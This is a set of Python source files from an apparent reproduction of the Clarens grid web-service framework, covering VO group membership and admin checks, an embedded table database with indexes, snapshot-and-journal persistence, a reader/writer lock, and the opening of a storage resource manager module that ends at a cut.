        self.server.vo.add_member(group, dn, actor_dn=ctx.require_dn())
        return True

    @rpc_method()
    def remove_member(self, ctx: CallContext, group: str, dn: str) -> bool:
        """Remove a DN from a group's member list."""

        self.server.vo.remove_member(group, dn, actor_dn=ctx.require_dn())
        return True

    @rpc_method()
    def add_admin(self, ctx: CallContext, group: str, dn: str) -> bool:
        """Add a DN to a group's administrator list."""

        self.server.vo.add_admin(group, dn, actor_dn=ctx.require_dn())
        return True

    @rpc_method()
    def remove_admin(self, ctx: CallContext, group: str, dn: str) -> bool:
        """Remove a DN from a group's administrator list."""

        self.server.vo.remove_admin(group, dn, actor_dn=ctx.require_dn())
        return True
