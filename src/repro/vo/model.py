"""The VO group tree.

Group names are dotted paths (``cms``, ``cms.higgs``, ``cms.higgs.students``)
mirroring Figure 2 of the paper (top-level groups A, B, C with second-level
A.1, A.2, A.3).  The special root group ``admins`` is (re)populated from the
server configuration on every construction, exactly as the paper describes,
and its members may create and delete groups at all levels.

Membership semantics reproduced from the paper:

* each group has a ``members`` list and an ``admins`` list of DNs;
* "group members of higher level groups are automatically members of lower
  level groups in the same branch" — membership of ``cms`` implies
  membership of ``cms.higgs``;
* a listed DN may be a *prefix*: listing ``/O=doesciencegrid.org/OU=People``
  admits every individual certificate issued under that branch;
* group administrators may add/remove members and manage groups at lower
  levels of their branch.
"""

from __future__ import annotations

import time
from dataclasses import dataclass, field
from typing import Callable, Iterable, Sequence

from repro.database import Database
from repro.pki.dn import DN, DNParseError

__all__ = ["Group", "VOManager", "VOError", "ADMINS_GROUP"]

ADMINS_GROUP = "admins"


class VOError(Exception):
    """Raised for invalid VO operations (unknown groups, permission errors)."""


def _dn_matches(listed: str, dn: str) -> bool:
    """True when ``listed`` (a full DN or a DN prefix) matches ``dn``."""

    try:
        return DN.parse(listed).is_prefix_of(DN.parse(dn))
    except DNParseError:
        # Tolerate non-DN strings in config files (e.g. a bare username) by
        # exact comparison, which is how the original server behaved with
        # malformed gridmap entries.
        return listed == dn


def _validate_group_name(name: str) -> str:
    name = name.strip()
    if not name:
        raise VOError("group names must be non-empty")
    for part in name.split("."):
        if not part or not all(ch.isalnum() or ch in "-_" for ch in part):
            raise VOError(f"invalid group name component {part!r} in {name!r}")
    return name


@dataclass
class Group:
    """One VO group: two DN lists plus bookkeeping."""

    name: str
    members: list[str] = field(default_factory=list)
    admins: list[str] = field(default_factory=list)
    created: float = field(default_factory=time.time)
    description: str = ""

    @property
    def parent_name(self) -> str | None:
        if "." not in self.name:
            return None
        return self.name.rsplit(".", 1)[0]

    def to_record(self) -> dict:
        return {
            "name": self.name,
            "members": list(self.members),
            "admins": list(self.admins),
            "created": self.created,
            "description": self.description,
        }

    @classmethod
    def from_record(cls, record: dict) -> "Group":
        return cls(
            name=record["name"],
            members=list(record.get("members", [])),
            admins=list(record.get("admins", [])),
            created=float(record.get("created", 0.0)),
            description=record.get("description", ""),
        )


class VOManager:
    """Manages the VO group tree, cached in the database.

    All state lives in the ``vo_groups`` table so that, like the original
    server, the group structure survives restarts while the ``admins`` group
    itself is refreshed from configuration each time.
    """

    def __init__(self, database: Database, *, admins: Iterable[str] = ()) -> None:
        self._db = database
        self._table = database.table("vo_groups")
        self._table.create_index("name", unique=True)
        #: Called (no arguments) after every group mutation.  The server uses
        #: it to flush cached ACL decisions, which depend on group membership.
        self.on_change: "Callable[[], None] | None" = None
        # The admins group is populated statically from the configuration on
        # each server restart (paper, section 2.1).
        admin_list = [str(a) for a in admins]
        existing = self._table.get(ADMINS_GROUP, None)
        record = Group(
            name=ADMINS_GROUP,
            members=admin_list,
            admins=admin_list,
            description="server administrators (from configuration)",
            created=existing.get("created", time.time()) if existing else time.time(),
        )
        self._table.put(ADMINS_GROUP, record.to_record())

    # -- lookups -------------------------------------------------------------
    def get_group(self, name: str) -> Group:
        record = self._table.get(_validate_group_name(name), None)
        if record is None:
            raise VOError(f"no such group: {name!r}")
        return Group.from_record(record)

    def group_exists(self, name: str) -> bool:
        try:
            return self._table.get(_validate_group_name(name), None) is not None
        except VOError:
            return False

    def list_groups(self, prefix: str | None = None) -> list[str]:
        names = sorted(r["name"] for r in self._table.all())
        if prefix is None:
            return names
        prefix = _validate_group_name(prefix)
        return [n for n in names if n == prefix or n.startswith(prefix + ".")]

    def tree(self) -> dict:
        """The group tree as nested dicts (used by the portal component)."""

        root: dict = {}
        for name in self.list_groups():
            node = root
            for part in name.split("."):
                node = node.setdefault(part, {})
        return root

    # -- membership ----------------------------------------------------------
    def _ancestors(self, name: str) -> list[str]:
        """The group and every ancestor, most specific first."""

        parts = name.split(".")
        return [".".join(parts[:i]) for i in range(len(parts), 0, -1)]

    def is_admin(self, dn: str, group_name: str | None = None) -> bool:
        """True when ``dn`` administers ``group_name`` (or the server, if None).

        Server admins (the root ``admins`` group) administer everything.
        Group admins administer their group and every group below it.
        """

        admins_group = self.get_group(ADMINS_GROUP)
        if any(_dn_matches(listed, dn) for listed in admins_group.members + admins_group.admins):
            return True
        if group_name is None:
            return False
        for ancestor in self._ancestors(_validate_group_name(group_name)):
            if not self.group_exists(ancestor):
                continue
            group = self.get_group(ancestor)
            if any(_dn_matches(listed, dn) for listed in group.admins):
                return True
        return False

    def is_member(self, dn: str, group_name: str) -> bool:
        """True when ``dn`` is a member of ``group_name``.

        Membership of any *ancestor* group implies membership of the group
        (higher-level members are automatically members of lower-level groups
        in the same branch); administrators of a group count as members.
        """

        group_name = _validate_group_name(group_name)
        if not self.group_exists(group_name):
            return False
        for ancestor in self._ancestors(group_name):
            if not self.group_exists(ancestor):
                continue
            group = self.get_group(ancestor)
            if any(_dn_matches(listed, dn) for listed in group.members):
                return True
            if any(_dn_matches(listed, dn) for listed in group.admins):
                return True
        return False

    def groups_for(self, dn: str) -> list[str]:
        """All group names ``dn`` belongs to (including via hierarchy/prefix)."""

        return [name for name in self.list_groups() if self.is_member(dn, name)]

    # -- mutation -------------------------------------------------------------
    def _notify(self) -> None:
        if self.on_change is not None:
            self.on_change()

    def _require_admin(self, actor_dn: str | None, group_name: str) -> None:
        if actor_dn is None:
            return  # internal calls (server bootstrap) skip authorization
        parent = group_name.rsplit(".", 1)[0] if "." in group_name else None
        if self.is_admin(actor_dn, group_name):
            return
        if parent is not None and self.is_admin(actor_dn, parent):
            return
        raise VOError(f"{actor_dn} is not authorized to administer group {group_name!r}")

    def create_group(self, name: str, *, actor_dn: str | None = None,
                     members: Sequence[str] = (), admins: Sequence[str] = (),
                     description: str = "") -> Group:
        name = _validate_group_name(name)
        if name == ADMINS_GROUP:
            raise VOError("the admins group is managed by the server configuration")
        if self.group_exists(name):
            raise VOError(f"group {name!r} already exists")
        parent = name.rsplit(".", 1)[0] if "." in name else None
        if parent is not None and not self.group_exists(parent):
            raise VOError(f"parent group {parent!r} does not exist")
        self._require_admin(actor_dn, name)
        group = Group(name=name, members=[str(m) for m in members],
                      admins=[str(a) for a in admins], description=description)
        self._table.put(name, group.to_record())
        self._notify()
        return group

    def delete_group(self, name: str, *, actor_dn: str | None = None,
                     recursive: bool = False) -> None:
        name = _validate_group_name(name)
        if name == ADMINS_GROUP:
            raise VOError("the admins group cannot be deleted")
        if not self.group_exists(name):
            raise VOError(f"no such group: {name!r}")
        self._require_admin(actor_dn, name)
        children = [g for g in self.list_groups(name) if g != name]
        if children and not recursive:
            raise VOError(f"group {name!r} has sub-groups; delete them first or pass recursive")
        for child in children:
            self._table.delete(child)
        self._table.delete(name)
        self._notify()

    def add_member(self, group_name: str, dn: str, *, actor_dn: str | None = None) -> None:
        group_name = _validate_group_name(group_name)
        self._require_admin(actor_dn, group_name)
        group = self.get_group(group_name)
        if dn not in group.members:
            group.members.append(str(dn))
            self._table.put(group_name, group.to_record())
            self._notify()

    def remove_member(self, group_name: str, dn: str, *, actor_dn: str | None = None) -> None:
        group_name = _validate_group_name(group_name)
        self._require_admin(actor_dn, group_name)
        group = self.get_group(group_name)
        if dn in group.members:
            group.members.remove(dn)
            self._table.put(group_name, group.to_record())
            self._notify()

    def add_admin(self, group_name: str, dn: str, *, actor_dn: str | None = None) -> None:
        group_name = _validate_group_name(group_name)
        if group_name == ADMINS_GROUP:
            raise VOError("the admins group is managed by the server configuration")
        self._require_admin(actor_dn, group_name)
        group = self.get_group(group_name)
        if dn not in group.admins:
            group.admins.append(str(dn))
            self._table.put(group_name, group.to_record())
            self._notify()

    def remove_admin(self, group_name: str, dn: str, *, actor_dn: str | None = None) -> None:
        group_name = _validate_group_name(group_name)
        if group_name == ADMINS_GROUP:
            raise VOError("the admins group is managed by the server configuration")
        self._require_admin(actor_dn, group_name)
        group = self.get_group(group_name)
        if dn in group.admins:
            group.admins.remove(dn)
            self._table.put(group_name, group.to_record())
            self._notify()
