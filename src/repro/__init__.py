"""Clarens web-service framework reproduction.

This package reproduces the system described in *"The Clarens Web Service
Framework for Distributed Scientific Analysis in Grid Projects"* (van Lingen
et al., ICPP Workshops 2005): a high-performance, certificate-authenticated
web-service framework for grid-based scientific analysis, together with every
substrate it depends on (PKI, HTTP server, RPC protocols, embedded database,
monitoring/discovery network) and the baselines used in its evaluation.

The subpackages hold the full API:

* :mod:`repro.core`         -- the Clarens server, dispatcher, sessions, auth.
* :mod:`repro.client`       -- synchronous / asynchronous / discovery clients.
* :mod:`repro.pki`          -- certificates, CAs, proxy certificates.
* :mod:`repro.vo`           -- virtual-organization management.
* :mod:`repro.acl`          -- hierarchical access-control lists.
* :mod:`repro.cache`        -- tiered hot-path caching with tag invalidation.
* :mod:`repro.fileservice`  -- remote file access.
* :mod:`repro.replica`      -- replica catalogue, transfer engine, broker.
* :mod:`repro.discovery`    -- dynamic service discovery.
* :mod:`repro.monitoring`   -- MonALISA-style monitoring substrate.
* :mod:`repro.shell`        -- sandboxed shell service.
* :mod:`repro.proxyservice` -- proxy-certificate storage / delegation.
* :mod:`repro.jobs`         -- job submission service.
* :mod:`repro.portal`       -- HTML/JS portal generation.
* :mod:`repro.baselines`    -- Globus-GT3-like and plain baselines.
* :mod:`repro.bench`        -- benchmark harness used by ``benchmarks/``.
"""

from __future__ import annotations

__version__ = "1.0.0"

__all__ = ["__version__"]
