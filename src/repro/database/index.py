"""Secondary indexes for tables.

An index maps the value of one record field to the set of primary keys whose
records carry that value.  Indexes are maintained incrementally on every
insert/update/delete and can be declared unique (e.g. the session table's
index on the session cookie).
"""

from __future__ import annotations

from typing import Any, Hashable, Iterable, Mapping

from repro.database.errors import DuplicateKeyError

__all__ = ["SecondaryIndex"]

_MISSING = object()


def _hashable(value: Any) -> Hashable:
    """Convert common unhashable field values into hashable index keys."""

    if isinstance(value, (list, tuple)):
        return tuple(_hashable(v) for v in value)
    if isinstance(value, dict):
        return tuple(sorted((k, _hashable(v)) for k, v in value.items()))
    if isinstance(value, set):
        return frozenset(_hashable(v) for v in value)
    return value


class SecondaryIndex:
    """An index over a single record field.

    Parameters
    ----------
    field:
        The record key being indexed.  Records missing the field are simply
        not indexed (lookups for any value will not return them).
    unique:
        When true, two live records may not share a field value.
    """

    def __init__(self, field: str, *, unique: bool = False) -> None:
        self.field = field
        self.unique = unique
        self._map: dict[Hashable, set[Hashable]] = {}

    # -- maintenance -------------------------------------------------------
    def add(self, primary_key: Hashable, record: Mapping[str, Any]) -> None:
        value = record.get(self.field, _MISSING)
        if value is _MISSING:
            return
        key = _hashable(value)
        bucket = self._map.setdefault(key, set())
        if self.unique and bucket and primary_key not in bucket:
            raise DuplicateKeyError(
                f"unique index on {self.field!r} violated by value {value!r}"
            )
        bucket.add(primary_key)

    def remove(self, primary_key: Hashable, record: Mapping[str, Any]) -> None:
        value = record.get(self.field, _MISSING)
        if value is _MISSING:
            return
        key = _hashable(value)
        bucket = self._map.get(key)
        if bucket is not None:
            bucket.discard(primary_key)
            if not bucket:
                del self._map[key]

    def replace(
        self,
        primary_key: Hashable,
        old_record: Mapping[str, Any],
        new_record: Mapping[str, Any],
    ) -> None:
        old_value = old_record.get(self.field, _MISSING)
        new_value = new_record.get(self.field, _MISSING)
        if old_value is new_value or old_value == new_value:
            return
        self.remove(primary_key, old_record)
        self.add(primary_key, new_record)

    def rebuild(self, records: Mapping[Hashable, Mapping[str, Any]]) -> None:
        self._map.clear()
        for pk, record in records.items():
            self.add(pk, record)

    # -- lookup ------------------------------------------------------------
    def lookup(self, value: Any) -> set[Hashable]:
        """Primary keys whose records have ``field == value`` (a copy)."""

        return set(self._map.get(_hashable(value), ()))

    def lookup_one(self, value: Any) -> Hashable | None:
        """A single primary key for ``value``, or ``None``.

        Only meaningful for unique indexes; for non-unique indexes an
        arbitrary member is returned.
        """

        bucket = self._map.get(_hashable(value))
        if not bucket:
            return None
        return next(iter(bucket))

    def values(self) -> Iterable[Hashable]:
        """All distinct indexed field values."""

        return self._map.keys()

    def __len__(self) -> int:
        return sum(len(bucket) for bucket in self._map.values())
