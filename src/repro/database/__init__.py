"""Embedded database substrate.

PClarens cached VO information, sessions, ACLs and the method registry in
server-side databases ("The list of group members is cached in a database, as
is all VO information"; the performance test notes that "each request
incur[s] a database lookup for all registered methods").  This package
provides that substrate: a small, thread-safe, table-oriented store with
secondary indexes and snapshot+journal persistence so that sessions survive
server restarts (section 2 of the paper).

Public API:

* :class:`repro.database.engine.Database` -- a named collection of tables
  bound to an optional on-disk directory.
* :class:`repro.database.table.Table` -- insert/get/update/delete/query with
  secondary indexes.
* :class:`repro.database.persistence.SnapshotJournal` -- the durability layer.
"""

from __future__ import annotations

from repro.database.engine import Database
from repro.database.errors import (
    DatabaseError,
    DuplicateKeyError,
    RecordNotFoundError,
    TableNotFoundError,
)
from repro.database.table import Table

__all__ = [
    "Database",
    "Table",
    "DatabaseError",
    "DuplicateKeyError",
    "RecordNotFoundError",
    "TableNotFoundError",
]
