"""Tables: the unit of storage.

A table stores JSON-serializable ``dict`` records under string primary keys,
optionally persisted through a :class:`~repro.database.persistence.SnapshotJournal`
and optionally indexed on record fields.  All operations are thread-safe via
a readers/writer lock; queries return copies so callers can mutate results
freely.
"""

from __future__ import annotations

from typing import Any, Callable, Iterable, Iterator, Mapping

from repro.database.errors import DuplicateKeyError, RecordNotFoundError
from repro.database.index import SecondaryIndex
from repro.database.locks import RWLock
from repro.database.persistence import SnapshotJournal

__all__ = ["Table"]


class Table:
    """A keyed collection of dict records with secondary indexes."""

    def __init__(self, name: str, *, storage: SnapshotJournal | None = None) -> None:
        self.name = name
        self._storage = storage
        self._lock = RWLock()
        self._records: dict[str, dict[str, Any]] = {}
        self._indexes: dict[str, SecondaryIndex] = {}
        if storage is not None:
            loaded = storage.load()
            self._records = {str(k): dict(v) for k, v in loaded.items()}

    # -- index management ----------------------------------------------------
    def create_index(self, field: str, *, unique: bool = False) -> None:
        """Declare (or re-declare) an index on ``field`` and build it."""

        with self._lock.write():
            index = SecondaryIndex(field, unique=unique)
            index.rebuild(self._records)
            self._indexes[field] = index

    def has_index(self, field: str) -> bool:
        with self._lock.read():
            return field in self._indexes

    # -- basic operations ----------------------------------------------------
    def insert(self, key: str, record: Mapping[str, Any], *, overwrite: bool = False) -> None:
        """Insert a record; raises :class:`DuplicateKeyError` unless ``overwrite``."""

        key = str(key)
        record = dict(record)
        with self._lock.write():
            existing = self._records.get(key)
            if existing is not None and not overwrite:
                raise DuplicateKeyError(f"table {self.name!r}: key {key!r} already exists")
            for index in self._indexes.values():
                if existing is not None:
                    index.replace(key, existing, record)
                else:
                    index.add(key, record)
            self._records[key] = record
            if self._storage is not None:
                self._storage.log_put(key, record, self._snapshot_view)

    def put(self, key: str, record: Mapping[str, Any]) -> None:
        """Insert-or-replace (upsert)."""

        self.insert(key, record, overwrite=True)

    def get(self, key: str, default: Any = ...) -> dict[str, Any]:
        """Return a copy of the record for ``key``.

        Raises :class:`RecordNotFoundError` when missing unless a ``default``
        is supplied.
        """

        key = str(key)
        with self._lock.read():
            record = self._records.get(key)
        if record is None:
            if default is not ...:
                return default
            raise RecordNotFoundError(f"table {self.name!r}: no record for key {key!r}")
        return dict(record)

    def update(self, key: str, fields: Mapping[str, Any]) -> dict[str, Any]:
        """Merge ``fields`` into an existing record and return the new copy."""

        key = str(key)
        with self._lock.write():
            existing = self._records.get(key)
            if existing is None:
                raise RecordNotFoundError(f"table {self.name!r}: no record for key {key!r}")
            new_record = dict(existing)
            new_record.update(fields)
            for index in self._indexes.values():
                index.replace(key, existing, new_record)
            self._records[key] = new_record
            if self._storage is not None:
                self._storage.log_put(key, new_record, self._snapshot_view)
            return dict(new_record)

    def delete(self, key: str) -> bool:
        """Delete a record; returns False if it did not exist."""

        key = str(key)
        with self._lock.write():
            record = self._records.pop(key, None)
            if record is None:
                return False
            for index in self._indexes.values():
                index.remove(key, record)
            if self._storage is not None:
                self._storage.log_delete(key, self._snapshot_view)
            return True

    def clear(self) -> None:
        with self._lock.write():
            self._records.clear()
            for index in self._indexes.values():
                index.rebuild({})
            if self._storage is not None:
                self._storage.log_clear(self._snapshot_view)

    # -- queries -------------------------------------------------------------
    def find(self, predicate: Callable[[dict[str, Any]], bool] | None = None,
             **equals: Any) -> list[dict[str, Any]]:
        """Return copies of records matching a predicate and/or field equality.

        When one of the equality fields is indexed, the index narrows the scan.
        """

        with self._lock.read():
            candidates: Iterable[str]
            indexed = [f for f in equals if f in self._indexes]
            if indexed:
                field = indexed[0]
                candidates = self._indexes[field].lookup(equals[field])
            else:
                candidates = list(self._records.keys())
            results = []
            for key in candidates:
                record = self._records.get(key)
                if record is None:
                    continue
                if any(record.get(f) != v for f, v in equals.items()):
                    continue
                if predicate is not None and not predicate(record):
                    continue
                results.append(dict(record))
            return results

    def find_one(self, predicate: Callable[[dict[str, Any]], bool] | None = None,
                 **equals: Any) -> dict[str, Any] | None:
        matches = self.find(predicate, **equals)
        return matches[0] if matches else None

    def lookup(self, field: str, value: Any) -> list[dict[str, Any]]:
        """Indexed lookup: records whose ``field`` equals ``value``."""

        with self._lock.read():
            index = self._indexes.get(field)
            if index is None:
                keys = [k for k, r in self._records.items() if r.get(field) == value]
            else:
                keys = list(index.lookup(value))
            return [dict(self._records[k]) for k in keys if k in self._records]

    def keys(self) -> list[str]:
        with self._lock.read():
            return list(self._records.keys())

    def all(self) -> list[dict[str, Any]]:
        with self._lock.read():
            return [dict(r) for r in self._records.values()]

    def items(self) -> list[tuple[str, dict[str, Any]]]:
        with self._lock.read():
            return [(k, dict(r)) for k, r in self._records.items()]

    def __contains__(self, key: object) -> bool:
        with self._lock.read():
            return str(key) in self._records

    def __len__(self) -> int:
        with self._lock.read():
            return len(self._records)

    def __iter__(self) -> Iterator[str]:
        return iter(self.keys())

    # -- persistence ---------------------------------------------------------
    def _snapshot_view(self) -> dict[str, Any]:
        # Called with the write lock already held by the mutating operation.
        return dict(self._records)

    def checkpoint(self) -> None:
        """Force a snapshot to disk (no-op for in-memory tables)."""

        if self._storage is None:
            return
        with self._lock.read():
            snapshot = dict(self._records)
        self._storage.checkpoint(snapshot)

    def close(self) -> None:
        if self._storage is not None:
            self._storage.close()
