"""Database exception hierarchy."""

from __future__ import annotations

__all__ = [
    "DatabaseError",
    "DuplicateKeyError",
    "RecordNotFoundError",
    "TableNotFoundError",
    "JournalCorruptError",
]


class DatabaseError(Exception):
    """Base class for all database errors."""


class DuplicateKeyError(DatabaseError):
    """A record with the same primary key already exists."""


class RecordNotFoundError(DatabaseError, KeyError):
    """No record exists for the requested primary key."""

    def __str__(self) -> str:  # KeyError quotes its arg; keep message readable
        return Exception.__str__(self)


class TableNotFoundError(DatabaseError, KeyError):
    """The requested table has not been created."""

    def __str__(self) -> str:
        return Exception.__str__(self)


class JournalCorruptError(DatabaseError):
    """The on-disk journal contains an entry that cannot be replayed."""
