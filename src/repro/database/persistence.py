"""Snapshot + journal persistence.

Durability model: each table owns one directory containing

* ``snapshot.json``   -- the full table contents as of the last checkpoint;
* ``journal.jsonl``   -- one JSON line per mutation applied since then.

On load the snapshot is read and the journal replayed; on checkpoint a new
snapshot is written atomically (write-to-temp + rename) and the journal is
truncated.  This is the property the paper relies on when it says session
state "is stored persistently on the server side … allowing clients to
survive server failures or restarts transparently".

Records must be JSON serializable.  The layer is intentionally simple — it is
a reproduction substrate, not a production storage engine — but corruption of
the journal tail (e.g. a crash mid-write) is tolerated by stopping replay at
the first damaged line, and any other malformed entry raises
:class:`~repro.database.errors.JournalCorruptError`.
"""

from __future__ import annotations

import json
import os
import threading
from pathlib import Path
from typing import Any, Callable, Hashable, Mapping

from repro.database.errors import JournalCorruptError

__all__ = ["SnapshotJournal"]


class SnapshotJournal:
    """Persistence backend for one table."""

    SNAPSHOT_NAME = "snapshot.json"
    JOURNAL_NAME = "journal.jsonl"

    def __init__(self, directory: str | os.PathLike, *, checkpoint_every: int = 1000) -> None:
        self.directory = Path(directory)
        self.directory.mkdir(parents=True, exist_ok=True)
        self.checkpoint_every = max(1, int(checkpoint_every))
        self._lock = threading.Lock()
        self._journal_entries_since_checkpoint = 0
        self._journal_fh = None

    # -- paths -------------------------------------------------------------
    @property
    def snapshot_path(self) -> Path:
        return self.directory / self.SNAPSHOT_NAME

    @property
    def journal_path(self) -> Path:
        return self.directory / self.JOURNAL_NAME

    # -- loading -----------------------------------------------------------
    def load(self) -> dict[str, Any]:
        """Return the persisted records as ``{primary_key: record}``.

        Primary keys are stored as strings in JSON; callers that use
        non-string keys must re-key the result themselves (the engine stores
        a ``__pk__`` field inside each record to recover the original type).
        """

        records: dict[str, Any] = {}
        if self.snapshot_path.exists():
            try:
                records = json.loads(self.snapshot_path.read_text() or "{}")
            except json.JSONDecodeError as exc:
                raise JournalCorruptError(f"snapshot corrupt: {exc}") from exc
        if self.journal_path.exists():
            with self.journal_path.open("r", encoding="utf-8") as fh:
                for lineno, line in enumerate(fh, start=1):
                    line = line.strip()
                    if not line:
                        continue
                    try:
                        entry = json.loads(line)
                    except json.JSONDecodeError:
                        # A torn final write is expected after a crash; anything
                        # before the end of file is real corruption.
                        remainder = fh.read().strip()
                        if remainder:
                            raise JournalCorruptError(
                                f"journal line {lineno} is corrupt and not the final entry"
                            )
                        break
                    self._apply_entry(records, entry, lineno)
        return records

    @staticmethod
    def _apply_entry(records: dict[str, Any], entry: Mapping[str, Any], lineno: int) -> None:
        op = entry.get("op")
        key = entry.get("key")
        if op == "put":
            records[key] = entry.get("record")
        elif op == "delete":
            records.pop(key, None)
        elif op == "clear":
            records.clear()
        else:
            raise JournalCorruptError(f"journal line {lineno}: unknown op {op!r}")

    # -- mutation logging ----------------------------------------------------
    def _append(self, entry: Mapping[str, Any], snapshot_provider: Callable[[], Mapping[str, Any]]) -> None:
        with self._lock:
            if self._journal_fh is None:
                self._journal_fh = self.journal_path.open("a", encoding="utf-8")
            self._journal_fh.write(json.dumps(entry, separators=(",", ":")) + "\n")
            self._journal_fh.flush()
            self._journal_entries_since_checkpoint += 1
            if self._journal_entries_since_checkpoint >= self.checkpoint_every:
                self._checkpoint_locked(snapshot_provider())

    def log_put(self, key: Hashable, record: Mapping[str, Any],
                snapshot_provider: Callable[[], Mapping[str, Any]]) -> None:
        self._append({"op": "put", "key": str(key), "record": dict(record)}, snapshot_provider)

    def log_delete(self, key: Hashable, snapshot_provider: Callable[[], Mapping[str, Any]]) -> None:
        self._append({"op": "delete", "key": str(key)}, snapshot_provider)

    def log_clear(self, snapshot_provider: Callable[[], Mapping[str, Any]]) -> None:
        self._append({"op": "clear"}, snapshot_provider)

    # -- checkpointing -------------------------------------------------------
    def checkpoint(self, records: Mapping[str, Any]) -> None:
        """Write a full snapshot and truncate the journal."""

        with self._lock:
            self._checkpoint_locked(records)

    def _checkpoint_locked(self, records: Mapping[str, Any]) -> None:
        tmp = self.snapshot_path.with_suffix(".tmp")
        tmp.write_text(json.dumps(records, separators=(",", ":")))
        os.replace(tmp, self.snapshot_path)
        if self._journal_fh is not None:
            self._journal_fh.close()
            self._journal_fh = None
        self.journal_path.write_text("")
        self._journal_entries_since_checkpoint = 0

    def close(self) -> None:
        with self._lock:
            if self._journal_fh is not None:
                self._journal_fh.close()
                self._journal_fh = None
