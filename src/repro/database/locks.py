"""Reader/writer lock used by the table store.

The Clarens dispatch path performs two database lookups per request (session
check and ACL check) while administrative calls occasionally write.  A
readers-preferring RW lock keeps the hot read path to a single mutex acquire
and lets concurrent benchmark clients proceed in parallel.
"""

from __future__ import annotations

import threading
from contextlib import contextmanager
from typing import Iterator

__all__ = ["RWLock"]


class RWLock:
    """A readers/writer lock.

    Multiple readers may hold the lock simultaneously; writers are exclusive.
    Writers waiting do not starve indefinitely because new readers queue on
    the internal condition once a writer is waiting.
    """

    def __init__(self) -> None:
        self._cond = threading.Condition()
        self._readers = 0
        self._writer = False
        self._writers_waiting = 0

    # -- read side ---------------------------------------------------------
    def acquire_read(self) -> None:
        with self._cond:
            while self._writer or self._writers_waiting:
                self._cond.wait()
            self._readers += 1

    def release_read(self) -> None:
        with self._cond:
            self._readers -= 1
            if self._readers == 0:
                self._cond.notify_all()

    @contextmanager
    def read(self) -> Iterator[None]:
        self.acquire_read()
        try:
            yield
        finally:
            self.release_read()

    # -- write side --------------------------------------------------------
    def acquire_write(self) -> None:
        with self._cond:
            self._writers_waiting += 1
            try:
                while self._writer or self._readers:
                    self._cond.wait()
                self._writer = True
            finally:
                self._writers_waiting -= 1

    def release_write(self) -> None:
        with self._cond:
            self._writer = False
            self._cond.notify_all()

    @contextmanager
    def write(self) -> Iterator[None]:
        self.acquire_write()
        try:
            yield
        finally:
            self.release_write()
