"""The database engine: a named collection of tables.

A :class:`Database` may be purely in-memory (``path=None``) — used by the
benchmarks, which measure dispatch overhead rather than disk — or bound to a
directory, in which case every table persists through a snapshot+journal and
re-opening the same path restores all data (the paper's "sessions survive
server restarts" property).
"""

from __future__ import annotations

import os
import shutil
import threading
from pathlib import Path
from typing import Iterator

from repro.database.errors import TableNotFoundError
from repro.database.persistence import SnapshotJournal
from repro.database.table import Table

__all__ = ["Database"]


class Database:
    """A collection of named :class:`~repro.database.table.Table` objects."""

    def __init__(self, path: str | os.PathLike | None = None, *,
                 checkpoint_every: int = 1000) -> None:
        self.path = Path(path) if path is not None else None
        self.checkpoint_every = checkpoint_every
        self._tables: dict[str, Table] = {}
        self._lock = threading.Lock()
        if self.path is not None:
            self.path.mkdir(parents=True, exist_ok=True)
            # Re-open any table directories already on disk so data written by
            # a previous server process is visible immediately.
            for entry in sorted(self.path.iterdir()):
                if entry.is_dir():
                    self._open_table(entry.name)

    # -- table management ----------------------------------------------------
    def _open_table(self, name: str) -> Table:
        storage = None
        if self.path is not None:
            storage = SnapshotJournal(self.path / name, checkpoint_every=self.checkpoint_every)
        table = Table(name, storage=storage)
        self._tables[name] = table
        return table

    def table(self, name: str, *, create: bool = True) -> Table:
        """Return the named table, creating it on first use by default."""

        with self._lock:
            table = self._tables.get(name)
            if table is not None:
                return table
            if not create:
                raise TableNotFoundError(f"no such table: {name!r}")
            return self._open_table(name)

    def drop_table(self, name: str) -> bool:
        """Remove a table and its on-disk data; returns False if absent."""

        with self._lock:
            table = self._tables.pop(name, None)
        if table is None:
            return False
        table.close()
        if self.path is not None:
            shutil.rmtree(self.path / name, ignore_errors=True)
        return True

    def table_names(self) -> list[str]:
        with self._lock:
            return sorted(self._tables)

    def __contains__(self, name: object) -> bool:
        with self._lock:
            return name in self._tables

    def __iter__(self) -> Iterator[Table]:
        with self._lock:
            return iter(list(self._tables.values()))

    # -- lifecycle -----------------------------------------------------------
    def checkpoint(self) -> None:
        """Checkpoint every table (snapshot to disk, truncate journals)."""

        for table in list(self._tables.values()):
            table.checkpoint()

    def close(self) -> None:
        """Checkpoint and release file handles."""

        for table in list(self._tables.values()):
            table.checkpoint()
            table.close()

    def __enter__(self) -> "Database":
        return self

    def __exit__(self, *exc_info: object) -> None:
        self.close()

    @property
    def persistent(self) -> bool:
        return self.path is not None
