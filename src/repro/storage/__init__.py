"""Mass-storage integration (paper section 6, "Future Work").

"Although Clarens provides remote file access through a Web Service, it does
not support interfaces to mass storage facilities yet.  Work is under way to
provide an SRM service interface to dCache such that Clarens can support
robust file transfer between different mass storage facilities."

This package implements that extension:

* :mod:`repro.storage.masstore` -- a simulated dCache-style mass storage
  system: disk pools in front of a tape archive, staging latency, pinning,
  and pool-space accounting.
* :mod:`repro.storage.srm`      -- a Storage Resource Manager over the mass
  store: space reservation, ``prepare_to_get``/``prepare_to_put`` returning
  transfer URLs (TURLs) served by the Clarens file service, pin lifetimes and
  request tracking.
* :mod:`repro.storage.service`  -- the ``srm.*`` RPC methods.
"""

from __future__ import annotations

from repro.storage.masstore import MassStorageSystem, StorageError
from repro.storage.srm import SRMRequest, StorageResourceManager
from repro.storage.service import SRMService

__all__ = [
    "MassStorageSystem",
    "StorageError",
    "StorageResourceManager",
    "SRMRequest",
    "SRMService",
]
