"""The Storage Resource Manager (SRM) layer over the mass store.

SRM is the grid middleware contract the paper cites ([27] Shoshani et al.):
clients negotiate *requests* against logical file names (SURLs); the SRM
stages data, pins it, and hands back *transfer URLs* (TURLs) that point at an
actual transfer endpoint — here, paths under the Clarens file service so the
zero-copy GET path does the byte moving.

Implemented subset (the calls the 2005 dCache/SRM deployments used):

* ``prepare_to_get``  -- asynchronous staging request; poll until READY, then
  fetch the TURL.
* ``prepare_to_put``  -- allocate a namespace entry + TURL for an upload and
  later commit it with ``put_done``.
* pinning / release, space reservation, ``ls`` and request status tracking.
"""

from __future__ import annotations

import itertools
import threading
import time
from dataclasses import dataclass, field
from enum import Enum
from pathlib import Path
from typing import Any

from repro.storage.masstore import MassStorageSystem, StorageError

__all__ = ["RequestState", "SRMRequest", "SpaceReservation", "StorageResourceManager"]


class RequestState(str, Enum):
    """Lifecycle of an SRM request."""

    QUEUED = "SRM_REQUEST_QUEUED"
